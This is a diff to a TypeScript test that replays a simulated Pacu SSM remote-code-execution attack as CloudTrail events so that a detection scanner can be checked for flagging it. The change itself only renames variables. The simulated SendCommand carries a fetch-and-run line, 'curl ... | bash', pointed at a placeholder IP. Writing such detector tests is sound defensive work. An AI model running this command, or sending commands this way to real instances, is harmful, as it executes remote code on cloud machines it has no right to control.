@@ -1,6 +1,6 @@
 import { user } from '../../scripts/examples/aws-callers'
 import { ACCOUNT, instance } from '../../scripts/examples/ids'
-import { story } from '../../scripts/examples/story'
+import { newStory } from '../../scripts/examples/story'
 import { expectGolden, HOSTING, mailAbout, scanStory } from './scenario'
 
 const pacu = user('ci-user', {
@@ -9,8 +9,8 @@ const pacu = user('ci-user', {
 })
 
 /** systemsmanager__rce_ec2: a role for the machine, waiting for its agent, then a command to which every failure is welcome. */
-const told = story()
-const { cloudTrail, trail } = told
+const story = newStory()
+const { cloudTrail, trail } = story
 trail.push(
   cloudTrail.call('2026-03-02T10:00:00.000Z', pacu, 'iam:AttachRolePolicy', {
     roleName: 'SSM',
@@ -48,7 +48,7 @@ trail.push(
     `arn:aws:ec2:eu-west-1:${ACCOUNT}:instance/${instance(2)}`,
   ),
 )
-told.send('2026-03-02T10:05:00.000Z', pacu, { instances: [instance(1)], maxErrors: '100%' }, [
+story.send('2026-03-02T10:05:00.000Z', pacu, { instances: [instance(1)], maxErrors: '100%' }, [
   'curl -fsS http://203.0.113.9/p | bash',
 ])
 trail.push(
@@ -61,7 +61,7 @@ trail.push(
 
 describe('Pacu', () => {
   it('is seen from the denied try to the boot script', async () => {
-    const { findings, alerts } = await scanStory(told)
+    const { findings, alerts } = await scanStory(story)
     expect(findings).toEqual({
       '02 10:00:00 iam:AttachRolePolicy': { 'anonymised-source': 'low' },
       '02 10:04:00 ssm:SendCommand': { 'first-seen-caller': 'medium' },
